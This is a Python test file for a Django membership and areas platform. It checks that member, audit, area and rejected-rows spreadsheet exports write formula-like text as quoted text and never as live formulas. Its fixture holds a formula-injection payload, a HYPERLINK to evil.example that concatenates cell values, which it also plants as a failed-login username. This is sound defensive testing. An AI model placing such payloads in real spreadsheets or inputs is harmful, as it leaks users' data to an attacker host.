"""Spreadsheets that cannot hurt: no file the platform writes holds a formula. Text that a spreadsheet would
take for one (= + - @, a tab or CR first) is written as text — a string cell marked "quote prefix" — and
imports back to the same text. Checked on the real downloads: the members export (masked and unmasked), the
audit export with a failed login's username, the areas export, the rejected-rows workbook and the templates;
and no module but grassroots/workbooks.py makes an openpyxl Workbook."""

from __future__ import annotations

import ast
import io
from datetime import date
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from grassroots.areas.models import Area
from grassroots.areas.services import import_workbook
from grassroots.core.members.models import Member
from grassroots.core.members.services.imports import start_member_import
from grassroots.workbooks import SafeWorkbook, text_safe
from tests.factories import Level, make_area, make_party_org
from tests.imports.helpers import HEADER, id_number, row, upload

EVIL = '=HYPERLINK("http://evil.example/?"&A2&B2,"详情")'
AREA_NAME = '=SUM(1+1)&"号院"'
ROOT = Path(__file__).resolve().parents[2]


def formula_cells(content: bytes) -> list[str]:
    """Every cell of every sheet that is a formula (openpyxl, not read-only: it keeps the cell types)."""
    wb = load_workbook(io.BytesIO(content))
    return [
        f"{ws.title}!{cell.coordinate}={cell.value}"
        for ws in wb.worksheets
        for line in ws.iter_rows()
        for cell in line
        if cell.data_type == "f"
    ]


def cells_holding(content: bytes, text: str) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for line in ws.iter_rows() for cell in line if cell.value == text]


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def evil_member(tree):
    branch = make_party_org("桥楼社区第一党支部", tree.community_a)
    number = id_number()
    return Member.objects.create(
        name="张三",
        gender="male" if int(number[16]) % 2 else "female",
        birth_date=date(int(number[6:10]), int(number[10:12]), int(number[12:14])),
        id_number=number,
        phone="13800001234",
        occupation=EVIL,
        work_unit="+86 雅安中学",
        branch=branch,
        joined_probationary_on=date(2005, 7, 1),
    )


@pytest.mark.parametrize("unmasked", ["", "1"])
def test_the_members_export_writes_a_formula_as_text(cast, evil_member, client_for, unmasked):
    content = body(client_for(cast.street_a).post(reverse("members:export"), {"unmasked": unmasked}))
    assert formula_cells(content) == []
    [cell] = cells_holding(content, EVIL)
    assert cell.data_type == "s" and cell.quotePrefix
    assert cells_holding(content, "+86 雅安中学")[0].quotePrefix


def test_an_exported_formula_like_text_imports_back_unchanged(cast, evil_member, client_for):
    content = body(client_for(cast.street_a).post(reverse("members:export"), {"unmasked": "1"}))
    Member.objects.all().delete()
    job = start_member_import(file=upload(content), actor=cast.street_a)
    assert job.status == "done", job.errors
    assert Member.objects.get().occupation == EVIL
    assert Member.objects.get().work_unit == "+86 雅安中学"


def test_the_audit_export_writes_a_failed_logins_username_as_text(cast, client_for):
    Client().post(reverse("accounts:login"), {"username": EVIL, "password": "wrong"})
    export = reverse("imports:list_export", args=["audit-log"]) + "?kind=login_failed"
    content = body(client_for(cast.auditor).post(export))
    assert formula_cells(content) == []
    assert [cell.data_type for cell in cells_holding(content, EVIL)] == ["s"]


def test_the_areas_export_writes_a_formula_as_text_and_imports_back(cast, tree, client_for):
    grid = make_area("第二网格", Level.GRID, tree.community_a)
    make_area(AREA_NAME, Level.COURTYARD, grid)
    client = client_for(cast.street_a)
    content = body(client.get(reverse("areas:export"), {"area": grid.pk}))
    assert formula_cells(content) == []
    assert len(cells_holding(content, AREA_NAME)) == 1
    Area.objects.get(pk=grid.pk).delete()  # and its subtree
    outcome = import_workbook(file=io.BytesIO(content), actor=cast.street_a)
    assert outcome.ok, outcome.errors
    assert Area.objects.filter(name=AREA_NAME, level=Level.COURTYARD).count() == 1


def test_the_rejected_rows_workbook_writes_uploaded_text_as_text(cast, tree):
    branch = make_party_org("桥楼社区第一党支部", tree.community_a)
    wb = SafeWorkbook()  # a text cell "=…" in the upload, as a user types it after an apostrophe
    ws = wb.active
    ws.title = "党员"
    ws.append(HEADER)
    ws.append(row("张三", "12345", branch.name, occupation=EVIL))  # a bad ID number
    handle = io.BytesIO()
    wb.save(handle)
    job = start_member_import(file=upload(handle.getvalue()), actor=cast.street_a)
    assert job.status == "rejected"
    with job.rejected_file.open("rb") as rejected:
        content = rejected.read()
    assert formula_cells(content) == []
    assert [cell.data_type for cell in cells_holding(content, EVIL)] == ["s"]


@pytest.mark.parametrize("url", ["members:import_template", "areas:import_template"])
def test_the_templates_have_no_formula(cast, client_for, url):
    assert formula_cells(body(client_for(cast.street_a).get(reverse(url)))) == []


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\nx", "＝1", "－1"])
def test_every_formula_start_is_written_as_text(text):
    for write_only in (True, False):
        wb = SafeWorkbook(write_only=write_only)
        ws = wb.create_sheet("s")
        ws.append([text, "正常文本", 12, None])
        if not write_only:
            ws["B2"] = text  # a normal sheet is swept when saved, however the cell was set
        handle = io.BytesIO()
        wb.save(handle)
        assert formula_cells(handle.getvalue()) == []
        read_back = text.replace("\r", "\n")  # XML reads a bare CR as a line feed
        assert len(cells_holding(handle.getvalue(), read_back)) == 1 + (not write_only)


def test_plain_values_are_left_alone():
    wb = SafeWorkbook(write_only=True)
    ws = wb.create_sheet("s")
    assert text_safe(ws, "张三") == "张三" and text_safe(ws, -1) == -1 and text_safe(ws, None) is None


def test_no_module_makes_its_own_openpyxl_workbook():
    """Every xlsx written goes through SafeWorkbook: nothing else in grassroots/ imports openpyxl's."""
    offenders = []
    for path in (ROOT / "grassroots").rglob("*.py"):
        if path == ROOT / "grassroots" / "workbooks.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            imported = (
                isinstance(node, ast.ImportFrom)
                and (node.module or "").startswith("openpyxl")
                and any(alias.name == "Workbook" for alias in node.names)
            )
            attribute = (
                isinstance(node, ast.Attribute)
                and node.attr == "Workbook"
                and isinstance(node.value, ast.Name)
                and node.value.id == "openpyxl"
            )
            if imported or attribute:
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
